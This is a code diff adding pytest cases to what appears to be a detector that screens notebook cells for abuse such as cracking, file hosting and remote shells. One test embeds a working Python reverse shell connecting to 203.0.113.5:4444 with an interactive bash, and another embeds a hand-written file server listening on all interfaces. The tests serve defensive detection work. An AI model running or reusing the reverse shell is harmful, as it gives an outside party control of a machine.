@@ -2155,3 +2155,32 @@ def test_an_attribute_of_an_object_that_hashes_is_no_digest(engine, compare, cra
             "for word in open('words.txt').read().split():\n    b = Block(word, genesis.digest())\n"
             f"    if {compare}:\n        print(word)\n")
     assert flagged(engine.check_code(cell), "password_cracking") is cracked
+
+
+@pytest.mark.parametrize("host, hosting", [("0.0.0.0", True), ("127.0.0.1", False)])
+def test_an_asyncio_stream_server_that_writes_a_chosen_file_serves_files(engine, host, hosting):
+    """``asyncio.start_server(handle, host, port)`` whose handler reads the request line and writes the file it
+    names to the client's stream writer: a hand-written file server. The look-alike listens on loopback only."""
+    cell = ("import asyncio, os\nROOT = '/content/share'\n"
+            "async def handle(reader, writer):\n    line = (await reader.readline()).decode().split()\n"
+            "    path = os.path.join(ROOT, line[1].lstrip('/'))\n    with open(path, 'rb') as f:\n"
+            "        while chunk := f.read(65536):\n            writer.write(chunk)\n            await writer.drain()\n"
+            "    writer.close()\n"
+            f"async def main():\n    srv = await asyncio.start_server(handle, {host!r}, 8081)\n"
+            "    await srv.serve_forever()\nasyncio.run(main())\n")
+    assert flagged(engine.check_code(cell), "web_file_hosting") is hosting
+
+
+@pytest.mark.parametrize("fed, remote", [("chunk", True), ("b'make test\\n'", False)])
+def test_a_pty_written_with_what_an_asyncio_connection_sent_is_a_remote_shell(engine, fed, remote):
+    """``pty.fork()`` with a shell in the child, its terminal written with what ``asyncio.open_connection``'s reader
+    returns: a reverse shell. The look-alike drives the terminal with its own fixed command and only streams the
+    output to a log collector."""
+    cell = ("import asyncio, os, pty\n"
+            "async def session():\n    r, w = await asyncio.open_connection('203.0.113.5', 4444)\n"
+            "    pid, fd = pty.fork()\n    if pid == 0:\n        os.execvp('/bin/bash', ['/bin/bash', '-i'])\n"
+            "    while chunk := await r.read(4096):\n"
+            f"        os.write(fd, {fed})\n        w.write(os.read(fd, 4096))\n"
+            "asyncio.run(session())\n")
+    verdict = engine.check_code(cell)
+    assert (verdict.action in ("warn", "block") and verdict.category == "remote_desktop_ssh") is remote
